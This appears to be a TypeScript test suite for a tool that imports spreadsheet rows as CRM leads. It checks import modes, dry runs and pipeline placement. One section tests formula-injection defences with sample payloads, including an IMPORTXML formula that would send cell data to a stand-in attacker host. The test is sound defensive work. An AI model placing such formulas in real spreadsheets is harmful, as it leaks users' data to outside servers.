/**
 * Imports that never damage CRM data (issue 13): an update-only sheet moves no lead, each
 * `mode` does what PRODUCT.md says on a sheet of existing and new leads, and nothing an import
 * writes back becomes a formula or a number.
 */
import { describe, expect, it } from 'vitest';
import type { JobSummary } from '../../src/core/jobs/record';
import { createImportWorld, type ImportWorld, SHEET } from './import-harness';

const ACCOUNT = 1;
const STATUS_HEADERS = ['CRM Import Status', 'CRM Lead ID', 'CRM Import Detail', 'CRM Imported At'];

/** Demo leads of the admin key's account that have an e-mail (the update-only sheet's key). */
function leadsWithEmail(world: ImportWorld, count: number) {
  const leads = world.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT && l.email);
  expect(leads.length).toBeGreaterThanOrEqual(count);
  return leads.slice(0, count);
}

function finish(world: ImportWorld, options: Record<string, unknown>): JobSummary {
  world.runtime.runOrThrow('crmImportLeads', { sheet: SHEET, ...options });
  world.runtime.runUntilIdle({ maxExecutions: 40 });
  const jobs = world.runtime.runOrThrow('crmListJobs') as JobSummary[];
  return jobs[0] as JobSummary;
}

function demoWorld(header: string[], rows: unknown[][]) {
  return createImportWorld({
    sheet: { header, rows, expected: [], keys: [] },
    sandbox: { seed: 'demo' },
  });
}

describe('an update-only sheet (E-mail + Telefone, no name, no pipeline)', () => {
  it('updates every lead and moves none: stage, pipeline and name unchanged, phones new', async () => {
    const probe = await demoWorld(['E-mail', 'Telefone'], []);
    const targets = leadsWithEmail(probe, 40).map((l) => ({ ...l }));
    const phones = targets.map(
      (_, i) => `(11) 9${String(7000_0000 + i).slice(0, 4)}-${String(1000 + i)}`,
    );
    const world = await demoWorld(
      ['E-mail', 'Telefone'],
      targets.map((lead, i) => [lead.email, phones[i]]),
    );
    // Some of them sit in won or later stages: an import must not pull them back.
    const final = finish(world, { mode: 'update', pipeline: 'Vendas', stage: 'Novo' });
    expect(final.state).toBe('done');
    expect(world.statuses()).toEqual(targets.map(() => 'UPDATED'));
    for (const before of targets) {
      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
      expect(after?.stage_id, `lead ${before.id}`).toBe(before.stage_id);
      expect(after?.pipeline_id).toBe(before.pipeline_id);
      expect(after?.name).toBe(before.name);
    }
    targets.forEach((before, i) => {
      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
      expect(after?.phone?.replace(/\D/g, '')).toBe(`55${(phones[i] ?? '').replace(/\D/g, '')}`);
    });
    expect(world.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT)).toHaveLength(
      probe.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT).length,
    );
    // 40 upserts, and knowing the 40 leads exist cost one paged read, not 40 lookups.
    const requests = world.sandbox.requests();
    expect(world.upserts()).toHaveLength(40);
    const lookups = requests.filter(
      (r) => r.method === 'GET' && r.path.startsWith('/api/v1/leads'),
    );
    expect(lookups.length).toBeLessThan(40);
  });
});

describe('import modes on a sheet of existing and new leads', () => {
  async function mixedWorld() {
    const probe = await demoWorld(['Nome', 'E-mail'], []);
    const existing = leadsWithEmail(probe, 3).map((l) => ({ ...l }));
    const rows = [
      ...existing.map((l) => [`Novo nome ${l.id}`, l.email, 'Empresa atualizada']),
      ['Nova Lead 1', 'nova1@exemplo.com.br', 'ACME'],
      ['Nova Lead 2', 'nova2@exemplo.com.br', 'ACME'],
      ['', 'semnome@exemplo.com.br', 'ACME'],
    ];
    const world = await demoWorld(['Nome', 'E-mail', 'Empresa'], rows);
    const pipeline = world.sandbox.state.pipelines.find(
      (p) => p.account_id === ACCOUNT && p.name === 'Vendas',
    );
    const stage = world.sandbox.state.stages.find(
      (s) => s.pipeline_id === pipeline?.id && s.position === 1,
    );
    return {
      world,
      existing,
      pipelineId: pipeline?.id,
      stageId: stage?.id,
      stageName: stage?.name,
    };
  }

  const leadByEmail = (world: ImportWorld, email: string) =>
    world.sandbox.state.leads.find((l) => l.account_id === ACCOUNT && l.email === email);

  it('upsert: existing leads updated in place (their names from the sheet), new ones placed by the options', async () => {
    const { world, existing, pipelineId, stageId, stageName } = await mixedWorld();
    const final = finish(world, { pipeline: 'Vendas', stage: stageName });
    expect(world.statuses()).toEqual([
      'UPDATED',
      'UPDATED',
      'UPDATED',
      'CREATED',
      'CREATED',
      'INVALID',
    ]);
    for (const before of existing) {
      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
      expect(after).toMatchObject({
        stage_id: before.stage_id,
        pipeline_id: before.pipeline_id,
        name: `Novo nome ${before.id}`,
        company: 'Empresa atualizada',
      });
    }
    expect(leadByEmail(world, 'nova1@exemplo.com.br')).toMatchObject({
      pipeline_id: pipelineId,
      stage_id: stageId,
    });
    expect(leadByEmail(world, 'semnome@exemplo.com.br')).toBeUndefined();
    expect(String(world.column('CRM Import Detail')[5])).toMatch(
      /cannot be created: .*needs a name/,
    );
    expect(final.counts).toMatchObject({ UPDATED: 3, CREATED: 2, INVALID: 1 });
  });

  it('update: existing leads only; the others are NOT_FOUND and nothing is created', async () => {
    const { world } = await mixedWorld();
    const before = world.sandbox.state.leads.length;
    const final = finish(world, { mode: 'update', pipeline: 'Vendas' });
    expect(world.statuses()).toEqual([
      'UPDATED',
      'UPDATED',
      'UPDATED',
      'NOT_FOUND',
      'NOT_FOUND',
      'NOT_FOUND',
    ]);
    expect(world.sandbox.state.leads.length).toBe(before);
    expect(world.upserts()).toHaveLength(3);
    expect(final.counts.NOT_FOUND).toBe(3);
  });

  it('create: new leads only; existing ones are EXISTS and left untouched', async () => {
    const { world, existing, stageName } = await mixedWorld();
    finish(world, { mode: 'create', pipeline: 'Vendas', stage: stageName });
    expect(world.statuses()).toEqual([
      'EXISTS',
      'EXISTS',
      'EXISTS',
      'CREATED',
      'CREATED',
      'INVALID',
    ]);
    for (const before of existing) {
      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
      expect(after?.name).toBe(before.name);
      expect(after?.company).toBe(before.company);
    }
    expect(world.column('CRM Lead ID').slice(0, 3)).toEqual(existing.map((l) => l.id));
    expect(world.upserts()).toHaveLength(2);
  });

  it('a dry run says per row whether it would create, update or be refused, and sends nothing', async () => {
    const { world, existing, stageName } = await mixedWorld();
    finish(world, { dryRun: true, pipeline: 'Vendas', stage: stageName });
    expect(world.upserts()).toHaveLength(0);
    expect(world.statuses()).toEqual(['VALID', 'VALID', 'VALID', 'VALID', 'VALID', 'INVALID']);
    const details = world.column('CRM Import Detail').map(String);
    existing.forEach((lead, i) => {
      expect(details[i]).toBe(
        `Dry run: would update lead ${lead.id} (found by its e-mail), keeping its pipeline and stage.`,
      );
    });
    expect(details[3]).toBe(`Dry run: would create a lead in Vendas / ${stageName}.`);
    expect(details[5]).toMatch(/^No CRM lead has this e-mail, and it cannot be created: /);
  });
});

describe('nothing an import writes back becomes a formula or a number', () => {
  const INJECTIONS = [
    '=IMPORTXML("https://attacker.example/?d="&A2&B2,"//a")',
    '+5511999',
    '-1',
    '@SUM(1)',
  ];

  it('INVALID, DUPLICATE and FAILED rows keep their CRM Lead ID cell as the text it was, in every column', async () => {
    // Every row ends without a lead id of its own: our checks refuse it, it repeats a key, or
    // the CRM fails it; each holds an injection string in CRM Lead ID (text, as a paste leaves it).
    const rows: unknown[][] = [];
    const expected: string[] = [];
    INJECTIONS.forEach((text, i) => {
      // A leading apostrophe makes the workbook hold the text itself, as a paste would.
      rows.push([`Ana ${i}`, `ana${i}@`, 'INVALID', `'${text}`]); // bad e-mail
      expected.push('INVALID');
      rows.push([`Bia ${i}`, 'bia@exemplo.com.br', '', `'${text}`]);
      expected.push(i === 0 ? 'FAILED' : 'DUPLICATE');
    });
    const world = await createImportWorld({
      sheet: {
        header: ['Nome', 'E-mail', 'CRM Import Status', 'CRM Lead ID'],
        rows,
        expected: [],
        keys: [],
      },
    });
    let armed = false;
    world.onRequest = (request) => {
      if (!armed && request.url.endsWith('/leads/upsert')) {
        armed = true;
        // This request and both retries: the row ends FAILED.
        world.sandbox.faults.add({ kind: '502', count: 3, pathPrefix: '/leads/upsert' });
      }
    };
    finish(world, { pipeline: 'Vendas', stage: 'Novo' });
    expect(world.statuses()).toEqual(expected);

    const sheet = world.runtime.sheet(SHEET);
    const header = sheet.getValues()[0] ?? [];
    const formulas = sheet.getFormulas();
    const values = sheet.getValues();
    for (const name of STATUS_HEADERS) {
      const c = header.indexOf(name);
      expect(c, name).toBeGreaterThanOrEqual(0);
      formulas.slice(1).forEach((line, r) => {
        expect(line[c], `${name} row ${r + 2}`).toBe('');
      });
    }
    const idColumn = header.indexOf('CRM Lead ID');
    values.slice(1).forEach((line, r) => {
      expect(line[idColumn], `row ${r + 2}`).toBe(INJECTIONS[Math.floor(r / 2)]);
    });
  });

  it('a detail quoting the CRM keeps a name starting with = as text', async () => {
    const name = `=HYPERLINK("https://attacker.example","${'x'.repeat(300)}")`;
    const world = await createImportWorld({
      sheet: {
        header: ['Nome', 'E-mail'],
        rows: [[`'${name}`, 'eve@exemplo.com.br']],
        expected: [],
        keys: [],
      },
    });
    finish(world, { pipeline: 'Vendas', stage: 'Novo' });
    expect(world.statuses()).toEqual(['INVALID']);
    const formulas = world.runtime.sheet(SHEET).getFormulas();
    expect(formulas.flat().every((f) => f === '' || f === undefined)).toBe(true);
  });
});

describe('mode "update" never creates (issue 16 item 7)', () => {
  /** Three demo leads with an e-mail, imported once (upsert) so memory and id cells know them. */
  async function importedOnce() {
    const probe = await demoWorld(['Nome', 'E-mail'], []);
    const leads = leadsWithEmail(probe, 3).map((l) => ({ ...l }));
    const world = await demoWorld(
      ['E-mail', 'Empresa'],
      leads.map((l) => [l.email, 'Primeira']),
    );
    finish(world, {});
    expect(world.statuses()).toEqual(['UPDATED', 'UPDATED', 'UPDATED']);
    return { world, leads };
  }

  it('a lead deleted in the CRM since the last import is NOT_FOUND, though memory and its CRM Lead ID cell name it', async () => {
    const { world, leads } = await importedOnce();
    const gone = leads[1] as (typeof leads)[0];
    world.sandbox.state.leads = world.sandbox.state.leads.filter((l) => l.id !== gone.id);
    const count = world.sandbox.state.leads.length;
    // Every row changed, so none is UNCHANGED: each one would be sent.
    const sheet = world.runtime.sheet(SHEET);
    for (let row = 2; row <= 4; row++) sheet.setValues(row, 2, [['Segunda']]);
    finish(world, { mode: 'update' });
    expect(world.statuses()).toEqual(['UPDATED', 'NOT_FOUND', 'UPDATED']);
    expect(world.sandbox.state.leads.length).toBe(count);
    expect(world.sandbox.state.leads.some((l) => l.email === gone.email)).toBe(false);
    expect(String(world.column('CRM Import Detail')[1])).toMatch(/No CRM lead has this e-mail/);
  });

  it('a CRM Lead ID cell of an earlier import does not make a deleted lead exist', async () => {
    const probe = await demoWorld(['Nome', 'E-mail'], []);
    const [kept, gone] = leadsWithEmail(probe, 2).map((l) => ({ ...l }));
    const world = await demoWorld(
      ['E-mail', 'Empresa', 'CRM Import Status', 'CRM Lead ID'],
      [
        [kept?.email, 'ACME', 'UPDATED', kept?.id],
        [gone?.email, 'ACME', 'UPDATED', gone?.id],
      ],
    );
    world.sandbox.state.leads = world.sandbox.state.leads.filter((l) => l.id !== gone?.id);
    const count = world.sandbox.state.leads.length;
    finish(world, { mode: 'update' });
    expect(world.statuses()).toEqual(['UPDATED', 'NOT_FOUND']);
    expect(world.sandbox.state.leads.length).toBe(count);
    expect(world.upserts()).toHaveLength(1);
  });
});

describe('the pipeline / stage options place new leads only (issue 16 item 8)', () => {
  it('a stage column alone moves an existing lead within its own pipeline, never to the option pipeline', async () => {
    const probe = await demoWorld(['Nome', 'E-mail'], []);
    const [moved, stays] = leadsWithEmail(probe, 2).map((l) => ({ ...l }));
    const world = await demoWorld(
      ['Nome', 'E-mail', 'Etapa'],
      [
        [moved?.name, moved?.email, 'Novo'],
        [stays?.name, stays?.email, 'Novo'],
        ['Lead Nova', 'lead.nova@exemplo.com.br', 'Novo'],
      ],
    );
    // A second pipeline, Suporte, also has a stage "Novo"; both leads live there.
    const state = world.sandbox.state;
    const at = new Date(0).toISOString();
    const suporte = Math.max(...state.pipelines.map((p) => p.id)) + 1;
    state.pipelines.push({
      id: suporte,
      account_id: ACCOUNT,
      name: 'Suporte',
      color: '#888888',
      auto_create_from_chatapp: false,
      auto_create_from_social: false,
      is_default: false,
      created_at: at,
      updated_at: at,
    });
    const firstStage = Math.max(...state.stages.map((s) => s.id)) + 1;
    ['Novo', 'Em atendimento'].forEach((name, position) => {
      state.stages.push({
        id: firstStage + position,
        pipeline_id: suporte,
        name,
        color: '#888888',
        is_won: false,
        is_lost: false,
        position: position + 1,
      });
    });
    const lead = (id: number | undefined) => state.leads.find((l) => l.id === id);
    Object.assign(lead(moved?.id) ?? {}, { pipeline_id: suporte, stage_id: firstStage + 1 });
    Object.assign(lead(stays?.id) ?? {}, { pipeline_id: suporte, stage_id: firstStage });
    const vendas = state.pipelines.find((p) => p.account_id === ACCOUNT && p.name === 'Vendas');
    const vendasNovo = state.stages.find((s) => s.pipeline_id === vendas?.id && s.name === 'Novo');

    finish(world, { pipeline: 'Vendas' });
    expect(world.statuses()).toEqual(['UPDATED', 'UPDATED', 'CREATED']);
    expect(lead(moved?.id)).toMatchObject({ pipeline_id: suporte, stage_id: firstStage });
    expect(lead(stays?.id)).toMatchObject({ pipeline_id: suporte, stage_id: firstStage });
    expect(state.leads.find((l) => l.email === 'lead.nova@exemplo.com.br')).toMatchObject({
      pipeline_id: vendas?.id,
      stage_id: vendasNovo?.id,
    });
  });
});

describe('new leads without Funil / Etapa go to the account default pipeline and its first stage', () => {
  async function noPlaceWorld() {
    const world = await demoWorld(
      ['Nome', 'E-mail'],
      [
        ['Lia Campos', 'lia.campos@exemplo.com.br'],
        ['Rui Bastos', 'rui.bastos@exemplo.com.br'],
      ],
    );
    // The account's default is not the first pipeline listed: the import must ask.
    const pipelines = world.sandbox.state.pipelines.filter((p) => p.account_id === ACCOUNT);
    for (const p of pipelines) p.is_default = p.name === 'Pós-venda';
    const posVenda = pipelines.find((p) => p.name === 'Pós-venda');
    const first = world.sandbox.state.stages
      .filter((s) => s.pipeline_id === posVenda?.id)
      .sort((a, b) => a.position - b.position)[0];
    return { world, posVenda, first };
  }

  it('the dry run says so', async () => {
    const { world, first } = await noPlaceWorld();
    finish(world, { dryRun: true });
    expect(world.statuses()).toEqual(['VALID', 'VALID']);
    expect(String(world.column('CRM Import Detail')[0])).toBe(
      `Dry run: would create a lead in Pós-venda / ${first?.name}, the account's default pipeline and its first stage (the sheet has no Funil / Etapa column and no pipeline was chosen for new leads).`,
    );
  });

  it('the import puts them there', async () => {
    const { world, posVenda, first } = await noPlaceWorld();
    finish(world, {});
    expect(world.statuses()).toEqual(['CREATED', 'CREATED']);
    expect(leadByEmailIn(world, 'lia.campos@exemplo.com.br')).toMatchObject({
      pipeline_id: posVenda?.id,
      stage_id: first?.id,
    });
  });
});

function leadByEmailIn(world: ImportWorld, email: string) {
  return world.sandbox.state.leads.find((l) => l.account_id === ACCOUNT && l.email === email);
}

describe('mode "update" and a lead deleted between the look and the upsert', () => {
  it('the lead the CRM made of the row is deleted again, and the row is NOT_FOUND', async () => {
    const probe = await demoWorld(['Nome', 'E-mail'], []);
    const [kept, gone] = leadsWithEmail(probe, 2).map((l) => ({ ...l }));
    const world = await demoWorld(
      ['Nome', 'E-mail', 'Empresa'],
      [
        [kept?.name, kept?.email, 'ACME'],
        [gone?.name, gone?.email, 'ACME'],
      ],
    );
    world.onRequest = (request) => {
      if (!request.url.endsWith('/leads/upsert') || !request.body?.includes(String(gone?.email)))
        return;
      // Someone deletes the lead in the CRM just before the import's upsert reaches it.
      world.sandbox.state.leads = world.sandbox.state.leads.filter((l) => l.id !== gone?.id);
    };
    const count = world.sandbox.state.leads.length - 1;
    finish(world, { mode: 'update' });
    expect(world.statuses()).toEqual(['UPDATED', 'NOT_FOUND']);
    expect(world.sandbox.state.leads.some((l) => l.email === gone?.email)).toBe(false);
    expect(world.sandbox.state.leads.length).toBe(count);
    expect(String(world.column('CRM Import Detail')[1])).toMatch(/was deleted again/);
  });
});
